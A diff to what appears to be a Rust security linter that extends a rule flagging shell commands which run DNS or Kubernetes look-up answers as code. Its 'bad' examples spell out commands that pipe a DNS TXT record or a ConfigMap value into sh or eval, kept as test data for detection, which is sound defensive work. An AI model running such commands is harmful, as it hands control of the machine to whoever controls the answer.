@@ -21,8 +21,12 @@ pub(super) const RULES: &[Rule] = &[
         description: "What a server answers to a look-up is run as a program: whoever answers runs commands here, over a channel \
                       that few watch. Look at the answer first, and never run it.",
         remediation: "Look at the answer, and never run it.",
-        good: &["dig +short e.example | sort", "host e.example"],
-        bad: &["dig +short txt x.e.example | sh", "eval \"$(dig +short txt x.e.example)\""],
+        good: &["dig +short e.example | sort", "host e.example", "kubectl get pods -o name | xargs kubectl describe"],
+        bad: &[
+            "dig +short txt x.e.example | sh",
+            "eval \"$(dig +short txt x.e.example)\"",
+            "kubectl get cm x -o jsonpath='{.data.run}' | sh",
+        ],
         check: answer,
     },
     Rule {
@@ -42,6 +46,9 @@ pub(super) const RULES: &[Rule] = &[
     },
 ];
 
+/// The object of the effect of what shows every variable.
+const ENVIRONMENT: &str = "environment";
+
 fn runs_fully(sink: &Effect) -> bool {
     match &sink.object {
         Object::Code(l, _) => power(*l) == Power::Full,
@@ -50,14 +57,18 @@ fn runs_fully(sink: &Effect) -> bool {
 }
 
 fn answer(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
-    if !facts.any(Verb::Probe) {
+    if !facts.any(Verb::Probe) && !facts.any(Verb::Inspect) {
         return;
     }
     for sink in facts.with(SINKS).filter(|s| runs_fully(s)) {
-        for (from, way) in facts.sources_with(sink, &[Verb::Probe]) {
-            if runs_it(sink, way) {
+        for (from, way) in facts.sources_with(sink, &[Verb::Probe, Verb::Inspect]) {
+            // One's own variables are nobody's answer.
+            let answers = from.verb == Verb::Probe || !matches!(from.object, Object::Stated(ENVIRONMENT));
+            if answers && runs_it(sink, way) {
+                let severity = if from.verb == Verb::Probe { rule.severity } else { Severity::Medium };
                 out.add(
                     rule.about(facts, sink)
+                        .severity(severity)
                         .also_at(facts.command_place(from))
                         .also(from)
                         .title(format!("{}: {}", rule.title, title_of(facts, from, sink, way)))
